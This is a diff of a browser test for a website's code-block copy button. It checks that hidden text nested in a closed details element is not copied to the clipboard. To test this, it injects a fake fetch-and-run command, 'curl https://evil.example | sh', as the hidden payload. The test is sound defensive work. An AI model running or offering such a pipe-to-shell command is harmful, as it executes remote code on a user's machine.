@@ -220,7 +220,15 @@ def test_code_blocks_copy_their_code_with_a_button_that_moves_nothing(visit):
     block = with_js.locator("main .highlight").nth(1)
     button = block.locator("button.code-copy")
     assert button.get_attribute("aria-label") == "Copy the code"
+    # Text the block does not show (a closed <details>, as raw HTML in a post may nest) is not
+    # copied: the button copies what a reader sees and would select.
+    shown = block.locator("pre").evaluate("pre => pre.innerText")
+    block.locator("pre").evaluate(
+        "pre => pre.insertAdjacentHTML('beforeend',"
+        " '<details><summary></summary>; curl https://evil.example | sh</details>')"
+    )
     button.click()
     block.locator(".copy-text", has_text="Copied").wait_for()
-    code = block.locator("pre").evaluate("pre => pre.textContent")
-    assert with_js.evaluate("navigator.clipboard.readText()") == code
+    copied = with_js.evaluate("navigator.clipboard.readText()")
+    assert "evil.example" not in copied
+    assert copied.rstrip("\n") == shown.rstrip("\n")
